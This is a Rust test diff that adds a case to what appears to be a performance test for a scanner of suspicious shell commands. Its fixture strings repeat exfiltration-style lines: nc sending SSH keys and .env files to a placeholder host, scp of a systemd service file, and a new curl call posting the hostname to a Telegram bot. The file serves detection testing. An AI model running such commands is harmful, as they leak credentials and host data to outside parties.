@@ -170,6 +170,10 @@ fn crowded(name: &str) -> String {
         "keys in senders of many lines" => "|nc a.b 8 ~/.ssh/id_rsa \\\n| a  ".repeat(2000),
         "variables and senders" => "aa=.env;|nc a.b 8\n".repeat(2000),
         "facts and senders" => "|nc a.b 8 `id` `id` `id` ".repeat(2000),
+        "messages to chats" => {
+            let send = "curl -s \"https://api.telegram.org/bot$TOKEN/sendMessage\" -d chat_id=\"$CHAT\" -d text=\"$(hostname)\"\n\n";
+            format!("{}{}", "a.py\n\n".repeat(50_000), send.repeat(2000))
+        }
         "copies of services" => {
             "scp a.service me@a.b:/etc/systemd/system/a.service\",\"".repeat(2000)
         }
@@ -187,6 +191,7 @@ fn matches_near_each_other_take_seconds_together() {
         "keys in senders of many lines",
         "variables and senders",
         "facts and senders",
+        "messages to chats",
         "copies of services",
         "words and orders",
         "quotes without an end",
